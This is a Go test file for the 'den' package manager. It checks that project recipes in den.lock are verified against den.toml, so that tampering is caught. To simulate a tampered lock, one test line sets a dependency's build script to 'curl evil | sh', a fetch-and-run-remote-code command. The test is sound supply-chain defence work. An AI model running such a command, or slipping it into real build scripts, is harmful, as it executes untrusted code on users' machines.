package resolve

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/den-sh/den/core/backend"
	"github.com/den-sh/den/core/index"
	"github.com/den-sh/den/core/lock"
	"github.com/den-sh/den/core/manifest"
	"github.com/den-sh/den/core/platform"
)

// A recipe of den.toml in [packages] is locked whole, and its entry is verified against
// den.toml, never against the index or taken on the lock's word.
func TestProjectRecipeLockAndVerify(t *testing.T) {
	m, err := manifest.Parse("/p/den.toml", []byte(`systems = ["x86_64-linux"]
[packages]
tool = "*"
[recipes.tool]
version = "1.0"
deps = ["lib"]
env = { MODE = "fast" }
build = "make"
host-tools = ["make"]
[recipes.lib]
version = "2.0"
build = "make lib"
host-tools = ["make"]
`))
	if err != nil {
		t.Fatal(err)
	}
	ix, err := index.Load()
	if err != nil {
		t.Fatal(err)
	}
	r := New(ix, &backend.Env{Current: platform.System{Arch: "x86_64", OS: "linux"}})
	f, _, err := r.LockManifest(context.Background(), m, &lock.File{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	p := f.Get("tool")
	if p == nil || !isProjectRecipe(p) || p.Attrs["build"] != "make" || p.Attrs["env"] != `{"MODE":"fast"}` ||
		len(p.Deps) != 1 || p.Deps[0].Name != "lib" || p.Deps[0].Version != "2.0" {
		t.Fatalf("locked %+v", p)
	}
	if err := UpToDate(m, f, true); err != nil {
		t.Errorf("a fresh lock is out of date: %v", err)
	}

	// Outside an allowed project the entry is refused.
	var lm *LockMismatchError
	if err := r.Verify(p); !errors.As(err, &lm) {
		t.Errorf("Verify without the project = %v, want a LockMismatchError", err)
	}
	r.UseProject(m)
	if err := r.Verify(p); err != nil {
		t.Errorf("Verify = %v", err)
	}
	// A dep's script edited in den.lock alone.
	p.Deps[0].Attrs["build"] = "curl evil | sh"
	if err := r.Verify(p); !errors.As(err, &lm) || !strings.Contains(err.Error(), "lib: its build script differs from den.toml's recipe") {
		t.Errorf("Verify of an edited dep = %v", err)
	}
	if err := UpToDate(m, f, true); err == nil || !strings.Contains(err.Error(), "tool's lib: its build script differs") {
		t.Errorf("UpToDate of an edited dep = %v", err)
	}
	p.Deps[0].Attrs["build"] = "make lib"
	// An index recipe's entry cannot pick up a project recipe's extras.
	hello := &lock.Package{Name: "hello", Backend: index.Recipe, Attrs: map[string]string{"build": "x", "env": `{"A":"b"}`}}
	if err := verifyRecipe(hello, &index.Entry{Recipe: &index.RecipeEntry{Build: "x"}}); err == nil || !strings.Contains(err.Error(), `attribute "env"`) {
		t.Errorf("an index recipe with env = %v", err)
	}
}
